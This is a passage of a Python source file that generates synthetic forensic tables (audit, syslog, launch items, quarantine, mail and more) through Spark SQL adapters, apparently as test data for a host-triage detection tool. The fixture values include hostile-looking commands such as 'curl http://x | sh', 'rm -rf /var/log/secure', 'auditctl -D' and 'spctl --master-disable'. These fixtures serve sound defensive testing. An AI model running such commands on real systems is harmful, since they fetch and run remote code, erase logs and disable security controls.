 'comm' AS comm, CAST(event_id % 500 AS BIGINT) AS pid, {pick('event_id', ['ssh.service', None])} AS unit, {pick('event_id * 2 + user_id', ['sshd', 'sudo', None, 'sshd'])} AS identifier, {SRC('system.journal')}
FROM events""")
adapter("audit", f"""
SELECT {H}, {NULL_TS} AS timestamp, event_id AS serial, {pick('event_id * 3 + user_id', ['EXECVE', 'SYSCALL', 'USER_AUTH', 'ADD_USER', 'AVC', 'USER_ACCT', 'GRP_MGMT', 'CWD'])} AS record_type,
 {pick('event_id * 5 + user_id', ['execve', 'openat', None, 'unlink', 'read'])} AS syscall, {pick('event_id', ['true', 'false', None])} AS success_text, {pick('event_id * 7 + user_id', ['/usr/bin/bash', '/tmp/.x/run', None, '/usr/sbin/sshd', '/usr/bin/python3'])} AS exe,
 {pick('event_id * 11 + user_id', ['bash', 'nginx', 'sshd', None])} AS comm, {pick('event_id * 3 + user_id * 5', ['whoami', 'rm -rf /var/log/secure', None, 'touch -d x /etc/cron.d/a', 'auditctl -D', 'cat execmem', 'ls'])} AS command_line,
 {pick('event_id * 13 + user_id', ['/etc/passwd', '/root/.ssh/authorized_keys', '/etc/sudoers.d/x', '/home/a', None])} AS path,
 {WHEN('event_id % 3 > 0', 'CAST(990 + event_id % 40 AS BIGINT)')} AS auid, CAST(CASE event_id % 4 WHEN 0 THEN 0 WHEN 1 THEN 33 ELSE 1000 END AS BIGINT) AS uid, {pick('event_id', ['tty1', None, 'pts0'])} AS tty, {pick('event_id * 5', ['watch', None])} AS key,
 {pick('event_id * 3', ['acct{m}', None])} AS account, {pick('event_id * 7', ['failed', 'success', None, 'failed'])} AS result, {pick('event_id', [None, '203.0.113.{h}'])} AS source_ip, {SRC('audit.log')}
FROM events""")
adapter("syslog", f"""
SELECT {H}, {NULL_TS} AS timestamp, 'srv' AS host, {pick('event_id', ['kernel', 'systemd', 'CRON'])} AS process, CAST(event_id % 300 AS BIGINT) AS pid,
 {pick('event_id * 3 + user_id', ['massStorage', 'usbDevice', 'segfault', 'crashLoop', 'cronExec', 'serviceStarted', 'diskError', 'other'])} AS category,
 {pick('event_id * 7 + user_id', ['nginx[{m}]: segfault at 0', 'tool{m}[1]: trap', 'usb-storage 1-1: found', '[x] msg{d}', 'unit restarted', 'service rsyslog stop'])} AS message,
 {pick('event_id', ['root', None])} AS "user", {pick('event_id * 5 + user_id', ['curl http://x | sh', '/usr/bin/ok', None, '/tmp/.run', 'rm /var/log/messages'])} AS command, {pick('event_id * 11 + user_id', ['unit{m}.service', 'systemd-x.service', None, 'odd{m}.service'])} AS unit, {SRC('syslog')}
FROM events""")
adapter("lastlog", f"""
SELECT {H}, CAST(event_id % 1200 AS BIGINT) AS uid, {pick('event_id * 3 + user_id', ['root', 'www-data', 'alice', None, 'svc', 'user7'])} AS "user", {NULL_TS} AS timestamp, 'pts/0' AS line,
 {pick('event_id * 5 + user_id', ['203.0.113.{h}', '', '10.0.0.1', '172.20.0.9', 'host.name', ':0', '169.254.1.1', '8.8.8.8'])} AS host, {SRC('lastlog')}
FROM events""")

adapter("launch_items", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['com.apple.upd{m}', 'org.tool{d}', 'com.vendor.a'])} AS label, {pick('event_id * 5 + user_id', ['/Users/Shared/.x/run', '/usr/bin/python3', None, '/Applications/App.app/run', '/opt/tool', ''])} AS program,
 {pick('event_id * 7 + user_id', ['/bin/bash,-c,echo {m}', '/usr/bin/ok,-v', '/bin/sh', '/opt/x'])} AS program_arguments, event_id % 2 = 0 AS run_at_load, {WHEN('event_id % 4 = 0', 'CAST(event_id % 900 AS BIGINT)')} AS start_interval,
 {pick('event_id', ['userAgent', 'systemAgent', 'systemDaemon'])} AS scope, {pick('event_id * 11', ['/Library/LaunchDaemons/a{m}.plist', '/Users/u/Library/LaunchAgents/b.plist'])} AS plist_path FROM events""")
adapter("mac_persistence", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['cron', 'periodic', 'emond', 'loginHook', 'logoutHook', 'rcScript', 'configProfile'])} AS kind, {pick('event_id', ['@reboot', '5 * * * *', None])} AS schedule, CAST(NULL AS STRING) AS "user",
 {pick('event_id * 5 + user_id', ['/usr/local/bin/ok{m}', '/tmp/.h{m}', 'curl x', '', '/bin/echo hi'])} AS command, {pick('event_id * 7', ['rc.local', 'rc.common', None, ''])} AS name, {SRC('crontab')} FROM events""")
adapter("quarantine", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['Safari', 'curl', 'python3.11', '/usr/bin/wget', 'Tool Java-8', None, 'shell'])} AS agent_name, {pick('event_id * 5 + user_id', ['https://pastebin.com/x{m}.dmg', 'http://198.51.100.{h}/a.pkg', 'https://ok.example.com/a.zip', 'https://bad{m}.xyz/t/run.sh?x=1', None, 'https://x.example.com/page'])} AS data_url,
 {pick('event_id * 7', ['https://ref{m}.top/', None])} AS origin_url, {NULL_TS} AS timestamp, {SRC('QuarantineEventsV2')} FROM events""")
adapter("where_froms", f"""
SELECT {H}, '/Users/u/Downloads/f' || CAST(event_id % 300 AS STRING) || '.dmg' AS path, {pick('event_id * 5 + user_id', ['http://198.51.100.{h}/a,http://ref', 'https://sub.transfer.sh/x', 'https://ok.example.com/z', 'http://10.0.0.{m}:80/q', 'https://u@t.me/p', 'https://nott.me/p'])} AS urls FROM events""")
adapter("fsevents", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['private/tmp/x{e}', 'Users/u/run{m}.sh', 'Library/LaunchAgents/a{m}.plist', 'Users/u/doc{d}.txt', 'Users/u/.cache/{d}'])} AS path, event_id, CAST({pick('event_id * 7 + user_id', ['16777216', '50331648', '268435456', '33554432', '134217729'])} AS BIGINT) AS flags, {SRC('fseventsd')} FROM events""")
adapter("unified_log", f"""
SELECT {H}, {NULL_TS} AS timestamp, {pick('event_id', ['default', 'error', 'fault'])} AS level, {pick('event_id * 5 + user_id', ['sudo', 'sshd', 'osascript', 'screensharingd', 'sysadminctl', 'dscl', None, 'kernel'])} AS process, {pick('event_id', ['com.apple.x', None])} AS subsystem,
 {pick('event_id * 3 + user_id', ['u : COMMAND=/bin/ls {m}', 'Accepted publickey for a from 1.2.3.4', 'Failed password for b from 203.0.113.{h} port 1', 'Authentication: SUCCEEDED for x', 'adduser bob', 'create /Users/x', 'created user account z', 'plain', ''])} AS message, {SRC('x.tracev3')} FROM events""")
adapter("tcc", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['kTCCServiceCamera', 'kTCCServiceAccessibility', 'kTCCServiceAppleEvents', 'kTCCServiceCalendar', 'kTCCServiceOdd'])} AS service, {pick('event_id * 5 + user_id', ['com.apple.x', 'org.bad{m}', '/usr/bin/tool', '/Applications/Z.app/Z{d}'])} AS client,
 CAST(CASE WHEN (event_id * 5 + user_id) % 4 < 2 THEN 0 ELSE 1 END AS INT) AS client_type, CAST(event_id % 4 AS INT) AS auth_value, {NULL_TS} AS last_modified, {pick('user_id', ['system', 'user'])} AS scope, {SRC('TCC.db')} FROM events""")
adapter("knowledge", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['/app/inFocus', '/app/usage', '/display/isBacklit', '/device/isLocked', '/media/nowPlaying', '/other'])} AS stream, {pick('event_id * 5 + user_id', ['com.TeamViewer.x{m}', 'com.apple.mail', None, 'com.anydesk'])} AS value, CAST(event_id % 2 AS BIGINT) AS value_int, {NULL_TS} AS start_date,
 {WHEN('event_id % 3 = 0', "ts + INTERVAL 90 SECOND")} AS end_date, 'u' AS scope, {SRC('knowledgeC.db')} FROM events""")
adapter("recent_items", f"""
SELECT {H}, {pick('event_id', ['servers', 'documents', 'hosts', 'applications'])} AS kind, 'item' || CAST(event_id % 50 AS STRING) AS title, {pick('event_id * 3 + user_id', ['smb://srv{m}/share', 'vnc://198.51.100.{h}', '/private/tmp/a{m}', 'file:///Users/x/run%20{m}.sh', 'srv{m}.corp', 'https://ok', '~/doc.txt', '/Users/a/b.command'])} AS value, {NULL_TS} AS timestamp, {SRC('x.sfl2')} FROM events""")
adapter("security_events", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['gatekeeper', 'xprotect', 'mrt', 'syspolicyd'])} AS kind, {pick('event_id * 2 + user_id', ['blocked', 'warning', 'allowed', 'info', 'detected', 'remediated'])} AS severity, {NULL_TS} AS timestamp, {pick('event_id', ['spctl', None])} AS process,
 {pick('event_id * 7 + user_id', ['spctl --master-disable', 'scan ok {d}', 'assessment'])} AS message, {pick('event_id * 11 + user_id', ['/Apps/A{b}.app', None, '/tmp/B{m}', ''])} AS path, {pick('event_id * 13', ['OSX.Bad{m}', None, ''])} AS signature, 's' AS scope, {SRC('XProtect.log')} FROM events""")
adapter("kexts", f"SELECT {H}, {pick('event_id', ['kext', 'systemExtension'])} AS kind, {pick('event_id * 3 + user_id', ['com.apple.k', 'org.v{d}'])} AS bundle_id, {pick('event_id', ['Kx{m}', 'Kx{m}'])} AS name, {pick('event_id * 5', ['/L/a{m}.kext', None])} AS path, 's' AS scope, '/db' AS source_file FROM events")
adapter("background_items", f"SELECT {H}, {pick('event_id * 3', ['Item{d}', '', 'Up{m}'])} AS name, {pick('event_id * 5 + user_id', ['/Users/Shared/x', '/Applications/a', None])} AS executable, {pick('event_id * 7 + user_id', ['com.apple.a', 'org.b{m}', None])} AS bundle_id, {pick('event_id * 11', ['Apple', 'Dev', None])} AS developer_name, 's' AS scope, '/btm' AS source_file FROM events")
TEXTS = ["see https://bit.ly/{m} now", "hello", "http://198.51.100.{h}/payload, and (https://ok.example.com).", None, "mail me at x@y", "two http://t.me/a http://t.me/a"]
adapter("messages", f"""
SELECT {H}, 'iMessage' AS service, {pick('event_id', ['+1555{d}', '', None])} AS handle, event_id % 3 = 0 AS is_from_me, {pick('event_id * 3 + user_id', TEXTS)} AS text, {NULL_TS} AS timestamp, event_id % 5 = 0 AS has_attachment, {pick('event_id', ['Chat', None])} AS chat_name, {SRC('chat.db')} FROM events""")
adapter("mail", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['Invoice {d}', 'Click http://198.51.100.{h}/x', 'https://bit.ly/{m}', None, ''])} AS subject, {pick('event_id * 7 + user_id', ['a@corp.com', 'evil@[198.51.100.{h}]', 'x@203.0.113.{h}', None])} AS sender, 'to@x' AS recipients, {WHEN('event_id % 4 > 0', 'ts')} AS date_sent, {WHEN('event_id % 3 > 0', 'ts + INTERVAL 1 MINUTE')} AS date_received,
 {pick('event_id', ['imap://x/INBOX', 'imap://x/Sent Messages', None])} AS mailbox, {SRC('Envelope Index')} FROM events""")
adapter("network", f"SELECT {H}, {pick('event_id', ['timeMachine', 'wifiNetwork', 'dhcpLease'])} AS kind, {pick('event_id * 3', ['Net{d}', ''])} AS name, {pick('event_id * 5 + user_id', ['smb://198.51.100.{h}/tm', 'afp://nas{m}.local/x', 'plain{m}', None, ''])} AS identifier, {NULL_TS} AS timestamp, {SRC('tm.plist')} FROM events")
adapter("user_activity", f"SELECT {H}, {pick('event_id', ['trash', 'quickLook'])} AS kind, {pick('event_id * 3 + user_id', ['/Users/u/.Trash/run{m}.sh', '/Users/u/a.txt', '/Users/u/.Trash/App{d}.APP'])} AS path, {NULL_TS} AS timestamp, {pick('event_id', ['viewed', None])} AS detail, {SRC('ql')} FROM events")
adapter("doc_versions", f"SELECT {H}, '/d/' || CAST(event_id % 99 AS STRING) AS file_path, {NULL_TS} AS version_time, {WHEN('event_id % 2 = 0', 'event_id')} AS size, {SRC('dv')} FROM events")
adapter("notifications", f"SELECT {H}, {pick('event_id', ['com.x', None])} AS app_id, {pick('event_id * 3', ['T{m}', '', None])} AS title, {pick('event_id * 5', ['B{m}', None])} AS body, {NULL_TS} AS delivered_date, {SRC('nc')} FROM events")
adapter("powerlog", f"""
SELECT {H}, {pick('event_id', ['process', 'appLifecycle', 'frontmost', 'network'])} AS kind, {pick('event_id * 3 + user_id', ['nmap', 'Safari', '/usr/bin/nc', 'osascript', None, 'AnyDesk'])} AS process_name, {pick('event_id * 5 + user_id', [None, 'com.vendor.app{d}', '', 'com.teamviewer.x'])} AS bundle_id,
 {WHEN('event_id % 2 = 0', 'event_id')} AS pid, {pick('event_id * 7', ['launch', None])} AS event, {NULL_TS} AS date, CAST(event_id % 70 AS BIGINT) AS bytes_in, CAST(event_id % 90 AS BIGINT) AS bytes_out, 's' AS scope, {SRC('CurrentPowerlog.PLSQL')} FROM events""")
adapter("config", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['firewall', 'remoteAccess', 'account'])} AS category, 'k' AS key, 'Setting ' || CAST(event_id % 9 AS STRING) AS name, 'off' AS value, 'why' AS interpretation, {pick('event_id * 5 + user_id', ['none', 'low', 'medium', 'high'])} AS risk,
 {pick('event_id', ['T1562.004', None])} AS attack_id, {pick('event_id', ['Disable Firewall', None])} AS attack_name, {pick('event_id * 7', ['system', 'alice', ''])} AS scope, {SRC('com.apple.alf.plist')} FROM events""")
adapter("installs", f"""
SELECT {H}, {pick('event_id * 3 + user_id', ['Nmap {m}', 'Safari', None, 'TeamViewer', ''])} AS display_name, {pick('event_id * 5 + user_id', ['org.pkg{d},org.sub', 'com.anydesk.pkg', ''])} AS package_identifiers, {pick('event_id', ['1.{m}', None])} AS version, {NULL_TS} AS date, {pick('event_id * 7 + user_id', ['installer', '/usr/bin/python3', 'Curl', None])} AS process_name,
 {pick('event_id * 11', ['/tmp/masscan.pkg', None, 'a.pkg'])} AS package_file, 'installHistory' AS source, 's' AS scope, {SRC('InstallHistory.plist')} FROM events""")

_SPLIT = {"linux_groups": ["members"], "linux_host": ["ip_addresses"], "ssh_keys": ["options"], "launch_items": ["program_arguments"], "where_froms": ["urls"], "installs": ["package_identifiers"]}


def spark_text(sql: str) -> str:
    """The shared SQL in Spark's quoting."""
    return sql.replace("\\", "\\\\").replace('"user"', "`user`")


def given(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A given table; zone-less times are read as UTC instants."""
    df = spark.read.parquet(f"{sf_dir}/{name}.parquet")
    return df.select(*[F.col(f.name).cast("timestamp") if isinstance(f.dataType, T.TimestampNTZType) else F.col(f.name) for f in df.schema.fields])


def work_folder(spark) -> str:
    """A new folder that driver and executors share; a temporary one where all runs in one process."""
    named = spark.conf.get("spark.checkpoint.dir", None)
    if named is None:
        if not spark.sparkContext.master.startswith("local"):
            raise RuntimeError("set spark.checkpoint.dir to a folder that driver and executors share")
        named = tempfile.mkdtemp(prefix="triagelake-")
    return f"{named}/case-{uuid.uuid4().hex}"


class GivenCase(CaseTables):
    """A case whose tables are the adapters over one folder of given tables."""

    def __init__(self, spark: SparkSession, sf_dir: str):
        super().__init__(apply_runtime_conf(spark))
        self.sf_dir = sf_dir
        for name in ("events", "lineitem"):
            given(spark, sf_dir, name).createOrReplaceTempView(f"given_{name}")

    def supplied(self, name: str) -> bool:
        return name in ADAPTERS or super().supplied(name)

    def given(self, name: str) -> DataFrame:
        return given(self.spark, self.sf_dir, name)

    def __getitem__(self, name: str) -> DataFrame:
        if name in self._tables or name not in ADAPTERS:
            return super().__getitem__(name)
        self._tables[name] = self._derive(name)
        return self._tables[name]

    def _derive(self, name: str) -> DataFrame:
        sql = spark_text(ADAPTERS[name])
        for base in ("events", "lineitem"):
            sql = sql.replace(f"FROM {base}", f"FROM given_{base}")
        df = self.spark.sql(sql)
        if name == "prefetch":
            df = df.withColumn("run_times", F.array_compact(F.array("run1", "run2")))
        if name == "audit":
            df = df.withColumn("success", F.col("success_text") == "true")
        for c in _SPLIT.get(name, []):
            df = df.withColumn(c, F.split(c, ","))
        return conform(df, name)

    def with_tables(self, **more: DataFrame) -> CaseTables:
        out = GivenCase(self.spark, self.sf_dir)
        out._tables = {**self._tables, **more}
        return out


def cte(*names: str) -> str:
    """WITH clause of the adapters a check needs, as tables a_<name>."""
    parts = []
    for n in names:
        sql = ADAPTERS[n]
        if n == "audit":
            sql = f"SELECT *, success_text = 'true' AS success FROM ({sql})"
        parts.append(f"a_{n} AS ({sql})")
    return "WITH " + ", ".join(parts)


__all__ = ["ADAPTERS", "GIVEN", "SCHEMAS", "GivenCase", "cte", "given", "q", "spark_text", "work_folder"]
